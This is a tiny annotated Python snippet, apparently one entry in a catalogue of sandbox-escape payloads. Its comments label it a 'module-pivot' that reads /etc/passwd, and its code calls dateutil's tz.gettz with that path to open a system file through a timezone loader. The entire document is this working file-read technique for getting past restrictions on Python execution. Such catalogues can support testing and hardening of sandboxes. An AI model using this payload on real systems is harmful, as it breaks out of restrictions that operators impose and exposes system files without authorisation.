# class: module-pivot
# mechanism: hidden name from a module
# how: zone file by path
# reaches: reads /etc/passwd
from dateutil import tz
tz.gettz("/etc/passwd")
